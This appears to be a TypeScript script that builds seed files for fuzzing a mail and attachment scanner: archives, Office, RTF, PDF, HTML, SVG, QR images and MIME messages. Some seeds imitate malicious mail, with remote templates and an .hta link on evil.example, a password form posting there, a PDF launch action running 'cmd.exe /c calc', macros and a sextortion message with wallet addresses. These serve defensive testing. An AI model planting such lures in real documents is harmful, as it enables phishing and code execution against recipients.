// Valid files and messages for bench/fuzz.ts to mutate, made by the same tools the tests use (zip,
// 7zz, tar, gzip, xz, genisoimage, qpdf, SheetJS's cfb, the RAR writer after the specification). Built once and
// kept under the fuzzer's output directory: seeds/<name>, the name being the attachment's.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { testProgram } from '../test/helpers/clamd.ts';
import { equationObject, oleDocument, oneNoteSection, outlookMessage, powerPointDocument, rtfDocument, webLinkedObject, windowsProgram } from '../test/helpers/files.ts';
import { excelXlsx, pandocDocument } from '../test/helpers/office.ts';
import { CIPHERS, encryptedWithQpdf, pdfDocument } from '../test/helpers/pdf.ts';
import { imageInPdf, qrBlocks, qrBoxes, qrImage, qrMatrix, qrNested, qrPieces } from '../test/helpers/qr.ts';
import { rar4Archive, rar5Archive } from '../test/helpers/rar.ts';
import { gzipFile, isoImage, sevenZipArchive, tarArchive, xzFile, zipArchive } from '../test/helpers/zip.ts';

const SEED_DIR = join(process.argv.includes('--out') ? process.argv[process.argv.indexOf('--out') + 1]! : 'scratch/fuzz', 'seeds');
const PASSWORD = 'secret';

function built(kind: string, make: () => Array<[string, Buffer]>): Array<{ name: string; data: Buffer }> {
  const dir = join(SEED_DIR, kind);
  if (!existsSync(dir)) {
    // written aside and renamed: a fuzzer started beside this one must not read a half-written set
    const building = `${dir}.${process.pid}`;
    mkdirSync(building, { recursive: true });
    make().forEach(([name, data], i) => writeFileSync(join(building, `${String(i).padStart(3, '0')}-${name}`), data));
    try {
      renameSync(building, dir);
    } catch {
      rmSync(building, { recursive: true, force: true }); // another built it first
    }
  }
  return readdirSync(dir).sort().map((f) => ({ name: f.replace(/^\d+-/, ''), data: readFileSync(join(dir, f)) }));
}

/** A 7-Zip archive made by 7zz with these switches. */
function sevenZip(files: ReadonlyArray<readonly [string, string | Buffer]>, switches: string[]): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'mm-fuzz-7z-'));
  try {
    for (const [name, content] of files) writeFileSync(join(dir, name), content);
    execFileSync('7zz', ['a', '-bd', '-bso0', ...switches, 'out.7z', ...files.map(([name]) => name)], { cwd: dir });
    return readFileSync(join(dir, 'out.7z'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const text = 'Rechnung 4471. Bitte öffnen: https://pay.example.net/invoice?id=4471\n'.repeat(20);
const calendar = [
  'BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', 'UID:4471@example.net',
  'ORGANIZER;CN=HR:mailto:hr@example.com', 'SUMMARY:Salary review 2027', 'LOCATION:https://meet.example.net/j/4471',
  'DESCRIPTION:Join at https://meet.example.net/j/4471\\nAgenda attached', 'DTSTART:20270101T100000Z', 'END:VEVENT', 'END:VCALENDAR', '',
].join('\r\n');

export function fileSeeds(): Array<{ name: string; data: Buffer }> {
  return built('files', () => {
    const files: Array<[string, string | Buffer]> = [['Rechnung.pdf.exe', windowsProgram()], ['notes.txt', text], ['run.js', 'WScript.Shell;'.repeat(10)]];
    const program: Array<[string, Buffer]> = [['Rechnung.exe', testProgram()]];
    const out: Array<[string, Buffer]> = [
      ['docs.zip', zipArchive(files)],
      ['stored.zip', zipArchive(files, { stored: true })],
      ['locked.zip', zipArchive(files, { password: PASSWORD })],
      ['nested.zip', zipArchive([['inner.zip', zipArchive(files)], ['a.txt', text]])],
      ['aes.zip', sevenZipArchive(files, { password: PASSWORD, zipEncryption: 'AES256' })],
      ['zipcrypto.zip', sevenZipArchive(files, { password: PASSWORD, zipEncryption: 'ZipCrypto' })],
      ['plain.7z', sevenZipArchive(files)],
      ['locked.7z', sevenZipArchive(files, { password: PASSWORD })],
      ['names.7z', sevenZipArchive(files, { password: PASSWORD, encryptNames: true })],
      ['lzma.7z', sevenZipArchive(files, { password: PASSWORD, method: 'LZMA' })],
      ['copy.7z', sevenZipArchive(files, { password: PASSWORD, method: 'Copy' })],
      ['bcj.7z', sevenZipArchive(program, { password: PASSWORD, level: 5 })],
      ['bcj2.7z', sevenZipArchive(program, { password: PASSWORD, level: 9 })],
      // headers stored plainly (-mhc=off): mutations reach the header reader instead of breaking LZMA
      ['raw-header.7z', sevenZip(files, ['-mhc=off'])],
      ['raw-header-locked.7z', sevenZip(files, ['-mhc=off', `-p${PASSWORD}`])],
      ['raw-header-bcj2.7z', sevenZip(program, ['-mhc=off', '-mx=9', `-p${PASSWORD}`])],
      // a plain archive whose ZIP, document and web page are unpacked and judged by their bytes
      ['raw-header-containers.7z', sevenZip([['inner.zip', zipArchive(files)], ['Rechnung.pdf', windowsProgram()], ['Fax.html', '<form action=x><input type=password>']], ['-mhc=off'])],
      ['plain.rar', rar5Archive(files)],
      ['locked.rar', rar5Archive(files, { encrypted: true })],
      ['old.rar', rar4Archive(files)],
      ['docs.tar', tarArchive(files)],
      ['pax.tar', tarArchive([[`${'long-name-'.repeat(12)}.exe`, windowsProgram()], ...files], { format: 'posix' })],
      ['docs.tgz', tarArchive(files, { gzip: true })],
      ['Rechnung.gz', gzipFile('Rechnung.pdf.js', 'WScript.Shell;'.repeat(10))],
      ['docs.txz', tarArchive(files, { xz: true })],
      // small blocks: mutations meet block headers and chunk headers, not only LZMA data
      ['Rechnung.xz', xzFile(Buffer.concat([windowsProgram(), Buffer.from('WScript.Shell;'.repeat(600))]), ['--block-size=2KiB'])],
      ['disk.iso', isoImage(files)],
      ['plain.iso', isoImage(files, { joliet: false })],
      ['macro.doc', oleDocument({ macros: true })],
      ['packaged.doc', oleDocument({ packaged: { name: 'run.js', content: Buffer.from('WScript.Shell') } })],
      ['mail.msg', outlookMessage('Rechnung', [{ name: 'Rechnung.exe', content: windowsProgram() }, { name: 'a.zip', content: zipArchive(files) }])],
      ['slides.ppt', powerPointDocument([oleDocument({ macros: true }), equationObject()])],
      ['equation.rtf', rtfDocument([{ className: 'Equation.3', native: Buffer.alloc(64, 0x41) }, { className: 'Package', native: Buffer.from('x') }], { template: 'http://evil.example/t.dotm' })],
      ['obfuscated.rtf', rtfDocument([{ className: 'Word.Document.8', native: oleDocument({ macros: true }) }], { obfuscated: true })],
      ['linked.doc', webLinkedObject('http://evil.example/x.hta')],
      ['section.one', oneNoteSection([windowsProgram(), Buffer.from('<script>WScript.Shell</script>')])],
      ['word.docx', zipArchive([['[Content_Types].xml', '<Types/>'], ['word/document.xml', `<w:document>${text}</w:document>`], ['word/_rels/document.xml.rels', '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'], ['word/vbaProject.bin', oleDocument({ macros: true })]])],
      ['pandoc.docx', pandocDocument('docx', `# Rechnung\n\n${text}\n\n[Zahlung](https://pay.example.net/a)[^1]\n\n[^1]: Fußnote`)],
      ['pandoc.odt', pandocDocument('odt', `# Rechnung\n\n${text}\n\n[Zahlung](https://pay.example.net/a)[^1]\n\n[^1]: Fußnote`)],
      ['pandoc.pptx', pandocDocument('pptx', `# Eins\n\n${text}\n\n# Zwei\n\nhttps://pay.example.net/a`)],
      ['book.xlsx', excelXlsx([[['Rechnung', 399.99], [text]], [['https://pay.example.net/a']]])],
      // documents in archives: read by the document readers (document-text.ts), two levels deep
      ['invoices.zip', zipArchive([['rechnung.pdf', pdfDocument({ text: [text], links: ['https://pay.example.net/a'] })], ['brief.docx', pandocDocument('docx', `${text} https://pay.example.net/a`)]])],
      ['invoices.7z', sevenZipArchive([['faktura.pdf', pdfDocument({ text: [text], links: ['https://pay.example.net/a'] })], ['scans.tgz', tarArchive([['umowa.docx', pandocDocument('docx', `${text} https://pay.example.net/a`)]], { gzip: true })]])],
      ['links.pdf', pdfDocument({ links: ['https://pay.example.net/a', 'http://192.0.2.7/x'], openAction: { javascript: 'app.alert(1)' }, attachments: [{ name: 'run.js', content: 'WScript' }] })],
      ['flat.pdf', pdfDocument({ links: ['https://pay.example.net/a'], objectStreams: false, documentScript: 'this.print()' })],
      ['raw.pdf', pdfDocument({ links: ['https://pay.example.net/a'], escapedNames: true, openAction: { launch: 'cmd.exe', parameters: '/c calc' }, rewrite: false })],
      ...Object.keys(CIPHERS).map((cipher, i): [string, Buffer] => [`crypt${i}.pdf`, encryptedWithQpdf(pdfDocument({ links: ['https://pay.example.net/a'], attachments: [{ name: 'a.exe', content: windowsProgram() }] }), { cipher, objectStreams: i % 2 === 0 })]),
      ['invite.ics', Buffer.from(calendar)],
      ['page.html', Buffer.from(`<html><body><form action="https://evil.example/p"><input type="password"></form><div style="display:none">${text}</div></body></html>`)],
      ['page.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example"</script><rect x="0" y="0" width="10" height="10"/></svg>')],
    ];
    return out;
  });
}

/** Pictures holding a QR code, as files and inside a PDF. */
export function imageSeeds(): Array<{ name: string; data: Buffer }> {
  return built('images', () => {
    const link = 'https://pay.example.net/invoice?id=4471';
    const images = (['png', 'jpeg', 'gif', 'bmp'] as const).map((format): [string, Buffer] => [`code.${format}`, qrImage(link, { format, scale: 3 })]);
    const webp = (['webp', 'webp-lossless', 'webp-extended'] as const).map((format): [string, Buffer] => [`${format}.webp`, qrImage(link, { format, scale: 3 })]);
    return [...images, ...webp, ['nested.png', qrNested(link, 'https://www.example.org/')], ['rgb.png', qrImage(link, { rgb: true, scale: 3 })], ['scan.pdf', imageInPdf(images[0]![1])], ['photo.pdf', imageInPdf(images[1]![1], 'code.jpg')]];
  });
}

/** MIME messages: the test fixtures in 7 languages and charsets, and messages carrying the file seeds. */
export function messageSeeds(): Array<{ name: string; data: Buffer }> {
  return built('messages', () => {
    const fixtures = readdirSync('test/fixtures/mail').filter((f) => f.endsWith('.eml')).map((f): [string, Buffer] => [f, readFileSync(join('test/fixtures/mail', f))]);
    const attached = fileSeeds().filter((_, i) => i % 3 === 0).map((f): [string, Buffer] => [`${f.name}.eml`, Buffer.from([
      'From: "Anna" <anna@b.example>', 'To: u@example.com', 'Subject: =?utf-8?B?0KHRh9C10YI=?= Rechnung', 'Date: Mon, 1 Dec 2026 10:00:00 +0100',
      'Message-ID: <x1@b.example>', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b1"', '',
      '--b1', 'Content-Type: multipart/alternative; boundary="b2"', '',
      '--b2', 'Content-Type: text/plain; charset=koi8-r', 'Content-Transfer-Encoding: 8bit', '', 'Пароль: secret', text,
      '--b2', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable', '',
      `<p style=3D"color:#fff">hidden</p><a href=3D"http://192.0.2.7/x">https://bank.example</a><table><tr><td bgcolor=3D"#000"></td></tr></table>`,
      '--b2--',
      '--b1', `Content-Type: application/octet-stream; name="${f.name}"`, 'Content-Transfer-Encoding: base64', `Content-Disposition: attachment; filename="${f.name}"`, '',
      f.data.toString('base64').replace(/.{76}/g, '$&\r\n'),
      '--b1', 'Content-Type: text/calendar; method=REQUEST; charset=utf-8', '', calendar,
      '--b1--', '',
    ].join('\r\n'))]);
    // codes drawn without a picture: boxes in a CSS grid coloured by classes, flex rows of wider boxes, block characters
    const matrix = qrMatrix('https://pay.example.net/invoice?id=4471', 1);
    const drawn: [string, Buffer] = ['qr-drawn.eml', Buffer.from([
      'From: "IT" <it@b.example>', 'To: u@example.com', 'Subject: Postfach', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary="b"', '',
      '--b', 'Content-Type: text/plain; charset=utf-8', '', qrBlocks('https://pay.example.net/x'),
      '--b', 'Content-Type: text/html; charset=utf-8', '', `<p>Scan</p>${qrBoxes(matrix, 'grid')}<p>or</p>${qrBoxes(matrix, 'runs', { inverted: true })}`,
      '--b--', '',
    ].join('\r\n'))];
    // a code split over two inline pictures (PNG halves), two WebP pieces side by side, and PNG quarters in a table
    const halves = [...qrPieces('https://pay.example.net/s', 2, 'column', { scale: 3 }), ...qrPieces('https://pay.example.net/w', 2, 'row', { format: 'webp', scale: 3 }),
      ...qrPieces('https://pay.example.net/q', 4, 'grid', { scale: 4 })];
    const split: [string, Buffer] = ['qr-split.eml', Buffer.from([
      'From: "IT" <it@b.example>', 'To: u@example.com', 'Subject: Passwort', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="r"', '',
      '--r', 'Content-Type: text/html; charset=utf-8', '', `<p>Scan</p><img src="cid:a@k"><br><img src="cid:b@k"><p>or</p><img src="cid:c@k"><img src="cid:d@k">`
        + '<table><tr><td><img src="cid:e@k"></td><td><img src="cid:f@k"></td></tr><tr><td><img src="cid:g@k"></td><td><img src="cid:h@k"></td></tr></table>',
      ...halves.flatMap((h, i) => [`--r`, `Content-Type: image/${i === 2 || i === 3 ? 'webp' : 'png'}`, `Content-ID: <${'abcdefgh'[i]}@k>`, 'Content-Transfer-Encoding: base64', '', h.toString('base64').replace(/.{76}/g, '$&\r\n')]),
      '--r--', '',
    ].join('\r\n'))];
    // short links in the HTML and written bare in the text (followed against the offline DNS: they fail at once)
    const short: [string, Buffer] = ['short-links.eml', Buffer.from([
      'From: "Post" <info@b.example>', 'To: u@example.com', 'Subject: Paket', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary="b"', '',
      '--b', 'Content-Type: text/plain; charset=utf-8', '', 'Track: bit.ly/3xYzAbc, clck.ru/38Ab_c-d or www.t.co/Q1; mail me@bit.ly/x',
      '--b', 'Content-Type: text/html; charset=utf-8', '', '<a href="https://bit.ly/a1">Paket</a> <a href="http://tinyurl.com/zqj?x=1">hier</a> is.gd/Ab1',
      '--b--', '',
    ].join('\r\n'))];
    // sextortion: wallets (Bitcoin, Tron, Ethereum) in the text and the HTML, sums of money, and a bitcoin: URI in a QR code
    const wallet: [string, Buffer] = ['crypto-wallets.eml', Buffer.from([
      'From: <anna@example.com>', 'To: anna@example.com', 'Subject: =?utf-8?q?Tw=C3=B3j_sekret?=', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="w"', '',
      '--w', 'Content-Type: text/plain; charset=utf-8', '', 'Przelej 2 000 zł (1.450 €, $1450, 0,05 BTC) na 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa lub bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.',
      '--w', 'Content-Type: text/html; charset=utf-8', '', '<p>Pay <b>1 200 000 евро</b> to <span>3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy</span>, 950 USDT to TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t or 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359</p>',
      '--w', 'Content-Type: image/png', 'Content-Transfer-Encoding: base64', '', qrImage('bitcoin:bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr?amount=0.03', { scale: 3 }).toString('base64').replace(/.{76}/g, '$&\r\n'),
      '--w--', '',
    ].join('\r\n'))];
    // attachment names in part headers: raw windows-1251 bytes, a mislabelled encoded-word, RFC 2231 segments
    const name = Buffer.from('\xd1\xf7\xb8\xf2.pdf', 'latin1');
    const partNames: [string, Buffer] = ['part-names.eml', Buffer.concat([
      Buffer.from(['From: a@b.example', 'Subject: invoice', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="o"', '',
        '--o', 'Content-Type: text/plain; charset=windows-1251', '', 'text', '--o', 'Content-Type: multipart/mixed; boundary="i"', '', '--i',
        'Content-Type: application/pdf; name="'].join('\r\n')), name,
      Buffer.from(['"', `Content-Disposition: attachment; filename="=?iso-8859-1?B?${name.toString('base64')}?="`, '', 'JVBERi0=',
        '--i', "Content-Disposition: attachment; filename*0*=iso-8859-1''%D1%F7; filename*1*=%B8%F2.pdf", '', 'JVBERi0=', '--i--', '--o--', ''].join('\r\n')),
    ])];
    // that message forwarded inline twice (message/rfc822 parts, 8-bit): each forward is parsed with the repairs again
    const forward = (inner: Buffer, boundary: string): Buffer => Buffer.concat([
      Buffer.from(['From: c@d.example', 'Subject: Fwd', 'MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${boundary}"`, '',
        `--${boundary}`, 'Content-Type: text/plain', '', 'see below', `--${boundary}`, 'Content-Type: message/rfc822', 'Content-Transfer-Encoding: 8bit', '', ''].join('\r\n')),
      inner, Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const forwards: [string, Buffer] = ['forwarded-part-names.eml', forward(forward(partNames[1], 'f1'), 'f2')];
    return [...fixtures, ...attached, drawn, split, short, wallet, partNames, forwards];
  });
}
